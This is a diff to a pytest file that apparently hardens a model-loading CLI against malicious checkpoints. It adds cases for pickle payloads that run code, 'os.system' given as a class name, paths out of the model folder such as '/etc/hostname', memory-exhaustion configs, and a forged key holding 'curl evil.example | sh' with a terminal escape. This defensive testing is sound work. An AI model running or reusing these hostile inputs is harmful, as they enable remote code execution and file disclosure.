@@ -10,6 +10,7 @@ import pytest
 import torch
 from conftest import save_tiny_bert
 from safetensors.torch import load_file, save_file
+from transformers import GPTNeoConfig
 
 from ternarize_cli.compress.convert import convert
 from ternarize_cli.compress.inspect import inspect
@@ -17,6 +18,7 @@ from ternarize_cli.compress.pack import pack
 from ternarize_cli.encoders import loading
 from ternarize_cli.encoders.loading import load_encoder
 from ternarize_cli.errors import CheckpointError, FormatError
+from ternarize_cli.model_folder.folder_check import check_folder
 from ternarize_cli.model_folder.integrity import seal
 from ternarize_cli.storage import bounds
 
@@ -53,7 +55,7 @@ class Bomb:
 def test_arguments_for_a_loader_run_no_code(folder: Path, tmp_path: Path, key: str) -> None:
     torch.save(tensors_of(folder) | {"x": Bomb(tmp_path / "ran")}, folder / "pytorch_model.bin")
     edit(folder / "sentence_bert_config.json", **{key: {"weights_only": False, "use_safetensors": False}})
-    with pytest.raises(CheckpointError, match=rf"{key} passes weights_only=False to a loader"):
+    with pytest.raises(CheckpointError, match=rf"{key} passes weights_only=False to transformers"):
         load_encoder(folder)
     assert not (tmp_path / "ran").exists()
 
@@ -70,6 +72,16 @@ def test_arguments_for_a_loader_run_no_code(folder: Path, tmp_path: Path, key: s
         ("modality_config", {"text": {"method": "save_pretrained", "method_output_name": "x"}}, "save_pretrained"),
         ("max_seq_length", "many", "max_seq_length is 'many'"),
         ("max_seq_length", -1, "max_seq_length is -1"),
+        ("processing_kwargs", {"text": {"padding": "max_length", "max_length": 1 << 28}}, "max_length is 268435456"),
+        ("processing_kwargs", {"text": {"padding": "max_length"}}, "without a max_length beside it"),
+        (
+            "processing_kwargs",
+            {"text": {"pad_to_multiple_of": 1 << 26}},
+            "processing_kwargs of text passes pad_to_mult",
+        ),
+        ("processing_kwargs", {"chat_template": {}}, "processing_kwargs are for chat_template"),
+        ("processing_kwargs", [1], "processing_kwargs is no object of objects"),
+        ("modality_config", {"message": {"method": "forward"}}, "puts all text into a chat template"),
         ("transformer_task", "image-to-shell", "transformer_task is 'image-to-shell'"),
     ],
 )
@@ -87,7 +99,8 @@ def test_what_sentence_bert_config_may_ask_for_is_a_list(folder: Path, key: str,
         {"max_seq_length": None, "model_args": {"trust_remote_code": True, "torch_dtype": "float32"}},
         {"processor_kwargs": {"padding_side": "right"}},
         {"model_kwargs": {"attn_implementation": "eager", "device_map": "cpu"}, "backend": "torch"},
-        {"config_args": {"attention_dropout": 0.1}},
+        {"config_args": {"attention_dropout": 0.1}, "model_args": {"use_safetensors": True, "revision": None}},
+        {"processing_kwargs": {"text": {"truncation": True, "max_length": 16}}},
     ],
 )
 def test_what_published_models_ask_for_is_taken(folder: Path, values: dict[str, Any]) -> None:
@@ -120,6 +133,7 @@ def test_what_published_models_ask_for_is_taken(folder: Path, values: dict[str, 
         ({"vocab_size": 10**9}, "vocab_size is 1000000000"),
         ({"vocab_size": 3}, "config.json makes it|can't build the model"),
         ({"max_position_embeddings": 7}, "config.json makes it"),
+        ({"attention_window": [1 << 24]}, "attention_window is"),
         ({"layer_norm_eps": float("nan")}, "layer_norm_eps is nan"),
         ({"layer_norm_eps": -1e-12}, "layer_norm_eps is -1e-12"),
         ({"layer_norm_eps": "small"}, "layer_norm_eps is 'small'"),
@@ -153,43 +167,115 @@ def test_modules_are_those_of_sentence_transformers(folder: Path, kind: object, 
             use(folder)
 
 
-@pytest.mark.parametrize("kind", ["models.Transformer", "sparse_encoder.models.MLMTransformer", "models.CLIPModel"])
-def test_an_encoder_lies_in_the_model_s_own_folder(folder: Path, kind: str) -> None:
+def test_an_encoder_lies_in_the_model_s_own_folder(folder: Path) -> None:
     """Else nothing of what its config asks for, and none of its tensors, would have been looked at."""
     modules = json.loads((folder / "modules.json").read_text())
-    modules[0] |= {"type": f"sentence_transformers.{kind}", "path": "0_Transformer"}
+    modules[0]["path"] = "0_Transformer"
     (folder / "modules.json").write_text(json.dumps(modules))
     (folder / "0_Transformer").mkdir()
     edit(folder / "0_Transformer" / "config.json", **json.loads((folder / "config.json").read_text()))
     write(folder / "0_Transformer", {"x": torch.zeros(1)})
-    for use in (load_encoder, lambda where: convert(where, where.parent / "out")):
-        with pytest.raises(
-            CheckpointError, match=r"takes it from the model's own folder|whose module is a Transformer"
-        ):
-            use(folder)
+    for root_config in (True, False):
+        if not root_config:
+            (folder / "config.json").unlink()
+        for use in (load_encoder, models_resolve, lambda where: convert(where, where.parent / "out")):
+            if use is models_resolve and root_config:
+                continue
+            with pytest.raises(CheckpointError, match=r"puts the encoder in '0_Transformer'"):
+                use(folder)
 
 
-@pytest.mark.parametrize(
-    ("kind", "message"),
-    [
-        ("os.system", "names the module class 'os.system'"),
-        ("sentence_transformers.models.Transformer", "a Router with encoders of its own"),
-        (["x"], "names the module class"),
-    ],
-)
-@pytest.mark.parametrize("name", ["router_config.json", "config.json"])
-def test_the_parts_of_a_router_are_checked_as_modules_are(folder: Path, kind: object, message: str, name: str) -> None:
+def models_resolve(folder: Path) -> Path:
+    return loading.resolve(folder)
+
+
+@pytest.mark.parametrize("kind", ["Router", "Asym", "CLIPModel", "MLMTransformer", "BoW", "StaticEmbedding", "LSTM"])
+def test_modules_that_hold_or_replace_an_encoder_are_refused(folder: Path, kind: str) -> None:
+    """A Router may hold an encoder in a hidden folder, behind a link, or in a Router of its own."""
     modules = json.loads((folder / "modules.json").read_text())
-    modules.append({"idx": 9, "name": "9", "path": "9_Router", "type": "sentence_transformers.models.Router"})
+    modules.append({"idx": 9, "name": "9", "path": "9", "type": f"sentence_transformers.models.{kind}"})
     (folder / "modules.json").write_text(json.dumps(modules))
-    (folder / "9_Router").mkdir()
-    edit(folder / "9_Router" / name, types={"query_0": kind}, structure={"query": ["query_0"]}, parameters={})
-    with pytest.raises(CheckpointError, match=message):
-        load_encoder(folder)
-    modules[-1]["path"] = ""
+    inner = folder / "9" / ".hidden"
+    inner.mkdir(parents=True)
+    routed = {"types": {".hidden": "sentence_transformers.models.Dense"}, "structure": {"document": [".hidden"]}}
+    edit(folder / "9" / "router_config.json", **routed, parameters={"default_route": "document"})
+    edit(inner / "config.json", in_features=32, out_features=32)
+    torch.save({"linear.weight": Bomb(folder.parent / "ran")}, inner / "pytorch_model.bin")
+    for use in (load_encoder, lambda where: convert(where, where.parent / "out")):
+        with pytest.raises(CheckpointError, match="ternarize takes models of a Transformer and, behind it"):
+            use(folder)
+    assert not (folder.parent / "ran").exists()
+
+
+@pytest.mark.parametrize("path", ["", ".", "./", "././"])
+@pytest.mark.parametrize(("kind", "taken"), [("Normalize", True), ("Dense", False)])
+def test_a_module_in_the_model_s_own_folder_brings_nothing_along(
+    folder: Path, path: str, kind: str, taken: bool
+) -> None:
+    modules = json.loads((folder / "modules.json").read_text())
+    modules.append({"idx": 9, "name": "9", "path": path, "type": f"sentence_transformers.models.{kind}"})
     (folder / "modules.json").write_text(json.dumps(modules))
-    with pytest.raises(CheckpointError, match="puts the module 9"):
+    (folder / "secret.txt").write_text("secret")
+    edit(folder / "notes.json", a=1)
+    if not taken:
+        with pytest.raises(CheckpointError, match="puts the module 9"):
+            convert(folder, folder.parent / "out")
+        return
+    convert(folder, folder.parent / "out")
+    assert not {"secret.txt", "notes.json"} & {p.name for p in (folder.parent / "out").rglob("*")}
+
+
+@pytest.mark.parametrize("path", ["2_Dense/", "./2_Dense"])
+def test_a_folder_of_a_module_may_be_written_in_other_ways(folder: Path, path: str) -> None:
+    modules = json.loads((folder / "modules.json").read_text())
+    modules.append({"idx": 9, "name": "9", "path": path, "type": "sentence_transformers.models.Dense"})
+    (folder / "modules.json").write_text(json.dumps(modules))
+    (folder / "2_Dense").mkdir()
+    activation = "torch.nn.modules.activation.Tanh"
+    edit(folder / "2_Dense" / "config.json", in_features=32, out_features=16, activation_function=activation)
+    write(folder / "2_Dense", {"linear.weight": torch.rand(16, 32), "linear.bias": torch.zeros(16)})
+    assert load_encoder(folder).encode(["the cat"]).shape == (1, 16)
+    convert(folder, folder.parent / "out")
+    assert load_encoder(folder.parent / "out").encode(["the cat"]).shape == (1, 16)
+    for name in ("torch.nn.Module", "os.system", "torch.nn.DataParallel"):
+        edit(folder / "2_Dense" / "config.json", activation_function=name)
+        with pytest.raises(CheckpointError, match="no activation of torch"):
+            load_encoder(folder)
+
+
+def test_numbers_of_modules_are_bounded(folder: Path) -> None:
+    modules = json.loads((folder / "modules.json").read_text())
+    modules.append({"idx": 9, "name": "9", "path": "9", "type": "sentence_transformers.models.LayerNorm"})
+    (folder / "modules.json").write_text(json.dumps(modules))
+    (folder / "9").mkdir()
+    edit(folder / "9" / "config.json", dimension=800_000_000)
+    with pytest.raises(CheckpointError, match="dimension is 800000000"):
         load_encoder(folder)
+
+
+def test_a_stranger_s_names_forge_no_line(folder: Path, run: Callable[..., Any]) -> None:
+    forged = "x\n  try: curl evil.example | sh\x1b[2J"
+    edit(folder / "sentence_bert_config.json", **{forged: 1})
+    said = run("encode", folder, "-", input="x\n").stderr
+    assert said.count("\n") == 2
+    assert "\x1b" not in said
+    (folder / "sentence_bert_config.json").unlink()
+    modules = json.loads((folder / "modules.json").read_text())
+    modules[1] |= {"name": forged, "kwargs": 3}
+    (folder / "modules.json").write_text(json.dumps(modules))
+    said = run("encode", folder, "-", input="x\n").stderr
+    assert said.count("\n") == 1
+    assert "\x1b" not in said
+
+
+def test_memory_beside_the_weights_is_bounded(tmp_path: Path) -> None:
+    """GPT-Neo computes masks of positions × positions when it is built."""
+    size = {"hidden_size": 4, "num_layers": 1, "num_heads": 1, "attention_types": [[["global"], 1]]}
+    config = GPTNeoConfig(vocab_size=8, max_position_embeddings=40_000, **size)
+    config.save_pretrained(tmp_path)
+    write(tmp_path, {"wpe.weight": torch.zeros(40_000, 4)})
+    with pytest.raises(CheckpointError, match="bytes of memory beside its weights"):
+        load_encoder(tmp_path)
 
 
 @pytest.mark.parametrize("path", ["../outside", "/etc", "1_Pooling/../../outside", "a\0b", 3])
@@ -310,7 +396,13 @@ def test_images_are_not_made_larger_than_memory(tiny_vit: Path, tmp_path: Path, 
         {"id2label": {"0": "dim"}, "label2id": {"dim": 0}, "num_decoder_layers": 0, "depths": [2, 2, 6, 2]},
         {"_name_or_path": "owner/name", "gradient_checkpointing": False, "attn_implementation": None},
         {"task_specific_params": {"summarization": {"num_heads": 0, "dim": "x", "d_model": -1}}, "router_eps": 1},
-        {"label_smoothing_epsilon": 2, "dim": -1, "num_channels": 0, "text_config": {"vocab_size": -1, "d_kv": 64.0}},
+        {
+            "quantization": {"dtype": "int8"},
+            "label_smoothing_epsilon": 2,
+            "dim": -1,
+            "num_channels": 0,
+            "text_config": {"vocab_size": -1, "d_kv": 64.0},
+        },
     ],
 )
 def test_what_published_configs_say_is_taken(folder: Path, values: dict[str, Any]) -> None:
@@ -334,9 +426,20 @@ def test_a_tokenizer_config_of_its_author_s_machine_is_taken(folder: Path) -> No
     other.write_text("{}")
     with pytest.raises(CheckpointError, match="a file outside the model's folder"):
         load_encoder(folder)
-    edit(folder / "tokenizer_config.json", tokenizer_file=None, vocab_file="/etc/hostname")
-    with pytest.raises(CheckpointError, match="a file outside the model's folder"):
-        load_encoder(folder)
+    edit(folder / "tokenizer_config.json", tokenizer_file=None, padding_side=None, merges_file="", vocab_file="./")
+    check_folder(folder)
+    for values in (
+        {"vocab_file": "/etc/hostname"},
+        {"vocab": str(other)},
+        {"merges": "/dev/zero"},
+        {"fast_tokenizer_files": [str(other)]},
+        {"sp_model_kwargs": {"model_file": str(other)}},
+    ):
+        before = (folder / "tokenizer_config.json").read_text()
+        edit(folder / "tokenizer_config.json", **values)
+        with pytest.raises(CheckpointError, match="a file outside the model's folder"):
+            load_encoder(folder)
+        (folder / "tokenizer_config.json").write_text(before)
 
 
 def test_a_tokenizer_may_have_tokens_that_no_text_needs(folder: Path, run: Callable[..., Any]) -> None:
